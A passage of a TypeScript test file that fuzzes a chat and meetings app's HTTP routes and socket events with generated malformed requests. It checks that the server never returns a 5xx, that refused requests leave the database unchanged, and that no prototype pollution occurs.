    const sent = await member.post('/api/chat/message', { conversationId: conversation.json._id, text: 'hello' });
    expect(sent.status).toBe(201);
  }

  async function loadKnown(): Promise<Known> {
    const ids = await queryRows<{ kind: string; id: string }>(
      runtime.db,
      sql`select 'users' as kind, id::text from users union all select 'accounts', id::text from accounts
          union all select 'teams', id::text from teams union all select 'rooms', id::text from rooms
          union all select 'meetings', id::text from meetings union all select 'occurrences', id::text from meeting_occurrences
          union all select 'conversations', id::text from conversations`,
    );
    const byKind: Record<string, string[]> = {};
    for (const { kind, id } of ids) {
      const list = byKind[kind] ?? [];
      list.push(id);
      byKind[kind] = list;
    }
    const numbers = await queryRows<{ number: string }>(runtime.db, sql`select number::text from meetings`);
    return {
      ids: { ...byKind, all: ids.map((r) => r.id) },
      numbers: [...numbers.map((r) => r.number), '123456789', '00000000'],
      emails: [...Object.values(SIGNED_IN), 'solo@demo.test', 'nobody@example.test'] as string[],
    };
  }

  beforeAll(async () => {
    database = await createTestDatabase('pglite', { seeded: true });
    runtime = await createRuntime(config, { database });
    app = createApp(runtime, { clientDist });
    for (const role of ROLES) await signIn(role);

    await topUp();
    known = await loadKnown();
    const doc = buildOpenApi(app) as { paths: Record<string, Record<string, Json>> };
    const seen = new Set<string>();
    for (const r of app.routes) {
      if (!r.path.startsWith('/api/') || r.method === 'ALL' || seen.has(`${r.method} ${r.path}`)) continue;
      seen.add(`${r.method} ${r.path}`);
      const op = doc.paths[r.path.replace(/:(\w+)/g, '{$1}')]?.[r.method.toLowerCase()];
      const queryParams = ((op?.parameters ?? []) as Json[]).filter((p) => p.in === 'query');
      const body = op?.requestBody?.content?.['application/json']?.schema as Json | undefined;
      routes.push({
        method: r.method,
        path: r.path,
        params: [...r.path.matchAll(/:(\w+)/g)].map((m) => m[1] as string),
        body,
        texts: Object.entries((body?.properties ?? {}) as Record<string, Json>)
          .filter(([, p]) => p.type === 'string' && !p.format && !p.pattern && !p.enum && p.const === undefined)
          .map(([k]) => k),
        query: queryParams.length ? Object.fromEntries(queryParams.map((p) => [p.name, p.schema ?? {}])) : undefined,
      });
    }
    for (const path of NON_API) routes.push({ method: 'GET', path, params: [] });
  }, 120_000);

  afterAll(async () => {
    await runtime?.close();
    await database?.drop();
    config.cleanup();
    rmSync(clientDist, { recursive: true, force: true });
  });

  async function send(req: HostileRequest) {
    const c = clients.get(req.role) as TestClient;
    const jar = jars.get(req.role);
    if (jar) {
      c.jar.clear();
      for (const [k, v] of jar) c.jar.set(k, v);
    }
    return c.request(req.method, req.url, { raw: req.body, headers: req.headers, csrf: req.csrf });
  }

  /** Sends in order, a few at a time; returns what went wrong, one line per distinct (route, status, problem). */
  async function flood(
    requests: HostileRequest[],
    check: (req: HostileRequest, res: Awaited<ReturnType<typeof send>>) => string | null,
  ) {
    const problems = new Map<string, string>();
    const statuses = new Map<number, number>();
    let next = 0;
    const worker = async () => {
      while (next < requests.length) {
        const req = requests[next++] as HostileRequest;
        if (next % 500 === 0) await keepSignedIn();
        let res: Awaited<ReturnType<typeof send>>;
        try {
          res = await send(req);
        } catch (err) {
          // Only what a client could not even send (fetch refuses the header) is skipped; anything else is a finding.
          if (err instanceof TypeError && /header|ByteString/i.test(err.message)) continue;
          problems.set(`threw ${String(err)}`, `${req.method} ${req.url.slice(0, 200)} threw ${String(err)}`);
          continue;
        }
        statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
        if (process.env.HOSTILE_DEBUG) {
          const k =
            process.env.HOSTILE_DEBUG === 'fields'
              ? `${req.method} ${req.url.split('?')[0]?.replace(/[0-9a-f-]{36}/g, ':id')} ${req.role} ${res.status} ${res.json?.code ?? ''} ${Object.keys(res.json?.fields ?? {}).join(',')} ${req.what}`
              : `${req.role} ${res.status} ${res.json?.code ?? ''} ${req.what === 'schema' ? 'clean' : 'mutated'}`;
          debug.set(k, (debug.get(k) ?? 0) + 1);
        }
        const problem = check(req, res);
        if (problem) {
          const key = `${req.method} ${req.url.split('?')[0]?.slice(0, 80)} → ${res.status} ${problem}`;
          if (!problems.has(key))
            problems.set(
              key,
              `${key} [${req.role}, ${req.what}] ${req.url.slice(0, 200)} ${req.body?.slice(0, 200) ?? ''}`,
            );
        }
      }
    };
    const debug = new Map<string, number>();
    await Promise.all([worker(), worker(), worker(), worker()]);
    if (debug.size)
      console.info(
        [...debug]
          .sort((a, b) => b[1] - a[1])
          .map((e) => e.join(' × '))
          .join('\n'),
      );
    return {
      problems: [...problems.values()],
      statuses: Object.fromEntries([...statuses].sort((a, b) => a[0] - b[0])),
    };
  }

  function responseProblem(req: HostileRequest, res: Awaited<ReturnType<typeof send>>): string | null {
    if (res.status >= 500) return `${res.json?.code ?? res.text.slice(0, 60)}`;
    if (res.status >= 400 && req.method !== 'HEAD') {
      const shape = errorShapeProblem(res.json);
      if (shape) return `error shape: ${shape}: ${res.text.slice(0, 60)}`;
    }
    return null;
  }

  it(`${RUNS} generated and broken requests over every route, signed in and not: no 5xx, every error in the §5 shape`, async () => {
    expect(routes.filter((r) => r.path.startsWith('/api/')).length).toBeGreaterThanOrEqual(60);
    console.info(`[hostile] fast-check seed ${SEED}, ${RUNS} requests over ${routes.length} routes`);
    // In chunks: before each, rows the previous one deleted are made again and the ids re-read; each chunk is sampled
    // with its own seed derived from SEED, so a run is reproducible from the printed seed.
    const CHUNK = 500;
    const requests: HostileRequest[] = [];
    const problems: string[] = [];
    const statuses: Record<number, number> = {};
    const started = Date.now();
    for (let chunk = 0; chunk * CHUNK < RUNS; chunk++) {
      await topUp();
      known = await loadKnown();
      const arb = fc.constantFrom(...routes).chain((route) => requestArb(route, known));
      const batch = fc.sample(arb, { seed: derivedSeed(chunk), numRuns: Math.min(CHUNK, RUNS - chunk * CHUNK) });
      requests.push(...batch);
      const result = await flood(batch, responseProblem);
      problems.push(...result.problems.filter((p) => !problems.includes(p)));
      for (const [status, count] of Object.entries(result.statuses))
        statuses[+status] = (statuses[+status] ?? 0) + count;
    }
    // Every route is in the sample (so none is left out by chance).
    const hit = new Set(requests.map((r) => r.route));
    expect(routes.filter((r) => !hit.has(`${r.method} ${r.path}`)).map((r) => `${r.method} ${r.path}`)).toEqual([]);
    console.info(
      `[hostile] ${requests.length} requests in ${Date.now() - started} ms; statuses ${JSON.stringify(statuses)}`,
    );
    expect(problems).toEqual([]);
    // Nothing was polluted by the __proto__ / constructor keys.
    expect(({} as Json).polluted).toBeUndefined();
    expect(Object.keys(Object.prototype)).toEqual([]);
    // And the app still serves.
    expect((await clients.get('stranger')?.get('/api/health'))?.json).toEqual({ ok: true });
  }, 240_000);

  it(`${REFUSED_RUNS} requests that must be refused: all 4xx, and nothing stored changes`, async () => {
    // Every table but sessions (which a request touches to keep its session alive), row by row.
    const checksum = async () => {
      const tables = await queryRows<{ name: string }>(
        runtime.db,
        sql`select table_name as name from information_schema.tables
            where table_schema = 'public' and table_type = 'BASE TABLE' and table_name <> 'sessions' order by 1`,
      );
      const sums: Record<string, string> = {};
      for (const { name } of tables) {
        const [row] = await queryRows<{ n: number; h: string }>(
          runtime.db,
          sql`select count(*)::int as n, md5(coalesce(string_agg(t::text, '|' order by t::text), '')) as h from ${sql.identifier(name)} t`,
        );
        sums[name] = `${row?.n}:${row?.h}`;
      }
      return sums;
    };
    await topUp();
    known = await loadKnown();
    const requests = fc.sample(refusedArb(routes, known), { seed: derivedSeed(-1), numRuns: REFUSED_RUNS });
    // The message topUp may have sent tells its away readers a moment later, in the BFF's away batch (its pending row
    // then goes): the rows the refused requests must leave alone are those after that batch.
    const pending = async () =>
      (await queryRows<{ n: number }>(runtime.db, sql`select count(*)::int as n from chat_away_pending`))[0]?.n;
    await expect.poll(pending, { timeout: 30_000 }).toBe(0);
    const before = await checksum();
    expect(Object.keys(before).length).toBeGreaterThan(15);
    const { problems, statuses } = await flood(requests, (req, res) =>
      res.status < 400 || res.status >= 500 ? `not refused: ${res.text.slice(0, 80)}` : responseProblem(req, res),
    );
    console.info(`[hostile] ${requests.length} refused requests; statuses ${JSON.stringify(statuses)}`);
    expect(problems).toEqual([]);
    expect(await checksum()).toEqual(before);
    expect((await clients.get('stranger')?.get('/api/health'))?.json).toEqual({ ok: true });
  }, 120_000);
});

describe('hostile socket events', () => {
  it('control characters in event text fields are refused with the field named; other junk never fails the server', async () => {
    const config = testConfig({ ...highLimits() });
    const database = await createTestDatabase('pglite', { seeded: true });
    const runtime = await createRuntime(config, { database });
    const server = serve({ fetch: createApp(runtime).fetch, port: 0, hostname: '127.0.0.1' }) as HttpServer;
    await new Promise<void>((resolve) => (server.listening ? resolve() : server.once('listening', () => resolve())));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const realtime = attachRealtime(runtime, server);
    const http = new TestClient((u, init) => fetch(u, init), url);
    const login = await http.login('member@demo.test', PASSWORD);
    const senderId = login.json.user.id as string;
    const ownerId = login.json.user.ownerId as string;
    const [team] = await queryRows<{ id: string }>(runtime.db, sql`select id::text from teams limit 1`);
    const teamId = team?.id as string;
    const socket = new ChatClient(url, http.jar);
    try {
      await socket.connected();
      const nul = await socket.call('sendTeamMessage', { senderId, teamId, text: 'hi\u0000' });
      expect(nul).toMatchObject({ ok: false, error: { code: 'VALIDATION_FAILED' } });
      expect(Object.keys(nul.error.fields)).toEqual(['text']);
      expect(nul.error.fields.text.ar).toMatch(/محارف تحكم/);
      const join = await socket.call('join_team', { ownerId, userId: senderId, teamName: 'x\u001b' });
      expect(join).toMatchObject({ ok: false, error: { fields: { teamName: expect.anything() } } });

      // A few hundred events with generated payloads: each answered, none with a 5xx. (Nothing over socket.io's 1 MB
      // frame limit: such a frame closes the connection by design.)
      const socketString = fc.oneof(
        fc.constantFrom(...HOSTILE_STRINGS, ...HUGE_STRINGS.filter((h) => h.length < 500_000)),
        fc.string({ unit: 'binary', maxLength: 40 }),
      );
      let disconnected = '';
      socket.socket.on('disconnect', (reason) => {
        disconnected = reason;
      });
      const events = ['addUser', 'join_team', 'sendMessage', 'sendTeamMessage', 'reading-messages'] as const;
      const payloads = fc.sample(
        fc.record({
          event: fc.constantFrom(...events),
          payload: fc.oneof(
            fc.record(
              {
                senderId: fc.constantFrom(senderId, '\u0000', 'x'),
                userId: fc.constantFrom(senderId, '00000000-0000-4000-8000-000000000000'),
                ownerId: fc.constantFrom(ownerId, 'x'),
                teamId: fc.constantFrom(teamId, '\u0000'),
                receiverId: fc.constantFrom(senderId, ownerId),
                conversationId: fc.uuid(),
                teamName: socketString,
                text: fc.oneof(socketString, fc.string()),
                messageId: socketString,
              },
              { requiredKeys: [] },
            ),
            fc.anything({ maxDepth: 3 }),
          ),
        }),
        { seed: SEED, numRuns: 300 },
      );
      for (const { event, payload } of payloads) {
        expect(disconnected, 'the server closed the socket').toBe('');
        const ack = await socket.call(event, payload);
        expect(
          ack.ok || (ack.error?.code && ack.error.code !== 'INTERNAL'),
          `${event} ${JSON.stringify(payload)}`,
        ).toBeTruthy();
      }
      const ok = await socket.call('sendTeamMessage', { senderId, teamId, text: 'still\tfine\n' });
      expect(ok).toMatchObject({ ok: true, message: { text: 'still\tfine\n' } });
    } finally {
      socket.close();
      await realtime.close();
      server.closeAllConnections();
      await new Promise((r) => server.close(r));
      await runtime.close();
      await database.drop();
      config.cleanup();
    }
  }, 60_000);
});
